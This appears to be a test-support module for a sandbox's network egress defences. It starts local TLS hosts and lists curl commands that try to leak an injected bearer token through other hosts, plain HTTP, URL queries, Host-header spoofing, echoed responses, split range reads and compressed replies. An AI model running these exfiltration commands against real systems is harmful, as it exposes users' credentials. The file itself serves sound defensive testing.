/** Hosts over TLS on this machine, a workspace with a credential for one of them, and what is tried to have its value. */
import { once } from 'node:events';
import { createServer, type IncomingMessage, type RequestListener, type ServerResponse } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import { gzipSync } from 'node:zlib';
import type { ExecResult } from '../../engine/tools/ports.ts';
import { matchesAny } from '../../provider/egress/rules.ts';
import { checkedLookup } from '../../provider/transport/address.ts';
import type { OpenWorkspaces } from '../open-workspaces.ts';
import { makeAuthority } from '../network/authority.ts';
import type { EdgeCredentials } from '../network/credentials.ts';
import { MIB } from './attack.test-support.ts';
import { ANY_HOST } from '../network/edge.ts';
import type { EdgeDefence } from '../network/edge-defences.ts';
import type { Egress } from '../network/proxy.ts';
import { openTest, run, specOf } from '../workspace.test-support.ts';

export const PLACEHOLDER: string = `perdure_${'0123456789abcdef'.repeat(3)}`;
export const API = 'api.example';
export const OTHER = 'other.example';
export const UNTRUSTED = 'untrusted.example';
export const PRIVATE = 'private.example';
/** One of the two at which values are put in. */
const PORT = 8443;
export const at = (host: string, path = '/'): string => `https://${host}:${PORT}${path}`;

export interface Asked {
  readonly server: string;
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

export interface EdgeScene {
  readonly secret: string;
  /** What the hosts were asked. */
  readonly asked: Asked[];
  /** The port of `API` without TLS. */
  readonly plain: number;
  run(command: string, given?: Given): Promise<ExecResult>;
  close(): Promise<void>;
}

export interface Given {
  readonly taken?: ReadonlySet<EdgeDefence>;
  readonly credentials?: EdgeCredentials;
  readonly isolation?: 'required' | 'none';
}

/** Puts the roots that this process believes back as they were. */
export async function edgeScene(secret = `s3cret+/${crypto.randomUUID()}`): Promise<EdgeScene> {
  const believed = getCACertificates('default');
  const trusted = await makeAuthority(Date.now());
  const other = await makeAuthority(Date.now());
  setDefaultCACertificates([...believed, trusted.certificate]);
  const asked: Asked[] = [];
  const net = () => 1 + Math.floor(Math.random() * 254);
  const addresses = new Map<string, string>(
    [API, OTHER, UNTRUSTED].map(host => [host, `127.${net()}.${net()}.${net()}`] as const),
  );
  addresses.set(PRIVATE, '10.0.0.1');
  const closing: (() => void)[] = [() => setDefaultCACertificates(believed)];
  for (const [host, address] of addresses) {
    if (host === PRIVATE) continue;
    const certified = await (host === UNTRUSTED ? other : trusted).certify(host);
    const server = createTlsServer(certified, answering(host, asked));
    server.listen(PORT, address);
    await once(server, 'listening');
    closing.push(() => void server.close());
  }
  const plain = createServer(answering(`${API} without TLS`, asked));
  // At every address: the others are reached by it too.
  plain.listen(0, '0.0.0.0');
  await once(plain, 'listening');
  closing.push(() => void plain.close());
  const { port } = plain.address() as AddressInfo;
  const mayAsk = (address: string): boolean => address.startsWith('127.');
  const egress: Egress = {
    matches: matchesAny,
    addressAllowed: mayAsk,
    lookup: () =>
      checkedLookup(mayAsk, (name, _, tell) => tell(null, [{ address: addresses.get(name) ?? '10.0.0.2', family: 4 }])),
  };
  const own: EdgeCredentials = {
    variables: async () => ({ TOKEN: PLACEHOLDER }),
    values: async host => new Map([API, UNTRUSTED, PRIVATE, ANY_HOST].includes(host) ? [[PLACEHOLDER, secret]] : []),
  };
  const opened: OpenWorkspaces[] = [];
  /** With all defences, once for all. */
  let undisturbed: OpenWorkspaces | null = null;
  return {
    secret,
    asked,
    plain: port,
    async run(command, { taken, credentials, isolation = 'required' } = {}) {
      const usual = taken === undefined && credentials === undefined && isolation === 'required';
      const workspaces =
        (usual ? undisturbed : null) ??
        (await openTest({
          isolation,
          // For Node inside.
          limits: { memoryBytes: 4096 * MIB, totalMemoryBytes: 4096 * MIB },
          network: {
            most: 'enabled',
            egress,
            credentials: ({ vaults = [] }) => (vaults.length === 0 ? null : (credentials ?? own)),
            ...(taken === undefined ? {} : { taken }),
          },
        }));
      if (usual) undisturbed = workspaces;
      opened.push(workspaces);
      const network = {
        access: 'restricted' as const,
        allowed: [API, UNTRUSTED, PRIVATE, `${OTHER}:${PORT}`, `${API}:${port}`, `${OTHER}:${port}`],
        blocked: [],
      };
      return run(
        await workspaces.open(specOf('env_1', { network, vaults: ['vault_1'], env: { TOKEN: 'hidden' } })),
        command,
      );
    },
    async close() {
      for (const one of opened) await one.close();
      for (const close of closing) close();
    },
  };
}

/** A host that echoes, keeps, and sends elsewhere what it is sent. */
let kept = '';
function answering(server: string, asked: Asked[]): RequestListener {
  const reply = async (req: IncomingMessage, res: ServerResponse): Promise<void> => {
    const parts: Buffer[] = [];
    for await (const part of req) parts.push(part as Buffer);
    const { headers, method = '', url = '' } = req;
    asked.push({ server, method, url, headers, body: Buffer.concat(parts).toString('utf8') });
    // A header is bytes: as they were meant.
    const sent = Buffer.from(headers.authorization ?? '', 'latin1').toString('utf8');
    if (url.startsWith('/keep')) kept = sent;
    switch (url.split('?')[0]) {
      case '/echo':
        return void res.end(`you sent ${sent}\n${JSON.stringify({ sent })}\n${encodeURIComponent(sent)}\n`);
      case '/encoded':
        return void res.end(Buffer.from(`a ${sent} b`).toString(headers['x-as'] as BufferEncoding));
      case '/in-headers':
        return void res.writeHead(200, { 'x-echo': headers.authorization ?? '', 'x-length': 'no' }).end('none');
      case '/elsewhere':
        return void res
          .writeHead(302, { location: `${at(OTHER, '/taken')}?${encodeURIComponent(sent)}` })
          .end(`Found. ${sent}`);
      case '/packed':
        return void res.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(`packed ${sent}`));
      case '/odd':
        return void res.writeHead(200, { 'content-encoding': 'rot13' }).end(sent);
      case '/kept': {
        const [, from, to] = /^bytes=(\d+)-(\d+)$/.exec(headers.range ?? '') ?? [];
        const bytes = Buffer.from(kept);
        if (from === undefined) return void res.end(bytes);
        return void res.writeHead(206).end(bytes.subarray(Number(from), Number(to) + 1));
      }
      default:
        return void res.writeHead(200, { 'content-length': 3 }).end('ok\n');
    }
  };
  return (req, res) => {
    reply(req, res).catch(() => res.destroy());
  };
}

export interface EdgeAttack {
  readonly name: string;
  readonly heldBy: readonly [EdgeDefence, ...EdgeDefence[]];
  readonly command: (scene: EdgeScene) => string;
  readonly through: (scene: EdgeScene, result: ExecResult) => boolean;
}

export const BEARER = '-H "Authorization: Bearer $TOKEN"';
export const CURL = 'curl -sS --max-time 10';
const printed = ({ secret }: EdgeScene, { output }: ExecResult): boolean => output.includes(secret);

export const EDGE_ATTACKS: readonly EdgeAttack[] = [
  {
    name: 'sends the placeholder to a host of its own',
    heldBy: ['own-hosts'],
    command: () => `${CURL} -k ${BEARER} ${at(OTHER)}`,
    through: ({ asked, secret }) => asked.some(one => one.server === OTHER && bytesIn(one.headers).includes(secret)),
  },
  {
    name: 'has it sent where everybody on the way can read it',
    heldBy: ['https-only'],
    command: ({ plain }) => `${CURL} ${BEARER} http://${API}:${plain}/`,
    through: ({ asked, secret }) => asked.some(one => bytesIn(one.headers).includes(secret)),
  },
  {
    name: 'has it kept in a path',
    heldBy: ['headers-only'],
    command: () => `${CURL} ${BEARER} "${at(API)}x?k=$TOKEN"`,
    through: ({ asked, secret }) =>
      asked.some(({ url }) => Buffer.from(url, 'latin1').toString('utf8').includes(secret.slice(0, 8))),
  },
  {
    name: 'names another host to a server that many share',
    heldBy: ['same-host'],
    command: () => `${CURL} ${BEARER} -H "Host: ${OTHER}" ${at(API)}`,
    through: ({ asked, secret }) =>
      asked.some(({ headers }) => headers.host === OTHER && bytesIn(headers).includes(secret)),
  },
  {
    name: 'has the host say it back',
    heldBy: ['scrubbed-answers'],
    command: () => `${CURL} ${BEARER} ${at(API, '/echo')}`,
    through: printed,
  },
  {
    name: 'has the host say it back in a header',
    heldBy: ['scrubbed-answers'],
    command: () => `${CURL} -i ${BEARER} ${at(API, '/in-headers')}`,
    through: printed,
  },
  {
    name: 'reads it back in halves',
    heldBy: ['whole-answers'],
    command: () =>
      `${CURL} ${BEARER} ${at(API, '/keep')}; a=$(${CURL} -r 0-15 ${at(API, '/kept')}); b=$(${CURL} -r 16-199 ${at(API, '/kept')}); echo "$a$b"`,
    through: printed,
  },
  {
    name: 'reads it back compressed',
    heldBy: ['plain-answers'],
    command: () => `${CURL} --compressed ${BEARER} ${at(API, '/packed')}`,
    through: printed,
  },
];

/** Headers as they were sent: each character of Node's is a byte. */
export function bytesIn(headers: IncomingMessage['headers']): string {
  return Buffer.from(Object.values(headers).flat().join('\n'), 'latin1').toString('utf8');
}
